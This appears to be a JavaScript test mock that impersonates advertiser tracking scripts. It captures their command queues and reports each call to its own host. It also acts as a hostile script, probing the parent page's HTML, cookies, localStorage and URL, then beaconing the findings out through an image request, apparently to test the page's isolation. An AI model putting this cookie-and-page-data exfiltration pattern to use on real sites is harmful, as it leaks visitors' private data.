// Mocks every advertiser's script: it takes over the queue, reports each call to its own host like the real script, and
// tries to read the page like a hostile script.
(() => {
  const { origin } = new URL(document.currentScript.src);
  const report = (what, value) => {
    new Image().src = `${origin}/${what}?d=${encodeURIComponent(JSON.stringify(value))}`;
  };
  const found = {};
  const probe = (name, read) => {
    try {
      found[name] = String(read());
    } catch (error) {
      found[name] = error.name;
    }
  };
  probe('parent', () => parent.document.body.innerHTML);
  probe('top', () => top.location.href);
  probe('cookie', () => document.cookie);
  probe('visitor', () => localStorage.getItem('foyer.visitor'));
  probe('origin', () => self.origin);
  probe('address', () => location.search);
  report('page-data', found);

  const reportCall = (...call) => report('call', call);
  const takeQueue = (name, method, list) => {
    const queue = window[name];
    if (!queue || queue[method]) return;
    queue[method] = reportCall;
    for (const call of queue[list].splice(0)) reportCall(...call);
  };
  const takeOver = (list) => {
    if (!list || list.push === reportCall) return;
    list.splice(0).forEach((call) => reportCall(call));
    list.push = reportCall;
  };
  const takeList = (name) => takeOver(window[name]);
  const takeInstances = (name) => {
    takeList(name);
    Object.values(window[name]?._i ?? {}).forEach(takeOver);
  };
  if (origin.includes('facebook')) takeQueue('fbq', 'callMethod', 'queue');
  if (origin.includes('twitter')) takeQueue('twq', 'exe', 'queue');
  if (origin.includes('googletagmanager')) {
    // Google's tag responds to `get` commands through a callback.
    for (const [command, , field, callback] of [...(window.dataLayer ?? [])].map((call) => Array.from(call)))
      if (command === 'get' && field === 'session_id') callback('1795000000');
    takeList('dataLayer');
  }
  if (origin.includes('imotech')) takeList('bgdataLayer');
  if (origin.includes('tiktok')) takeInstances('ttq');
  if (origin.includes('ap4r')) takeInstances('kwaiq');
  if (origin.includes('appsflyer')) {
    window.AF.q.splice(0).forEach((call) => reportCall(...call));
    window.AF = reportCall;
  }
  if (origin.includes('adjust')) window.Adjust = { initSdk: reportCall, trackEvent: reportCall };
})();
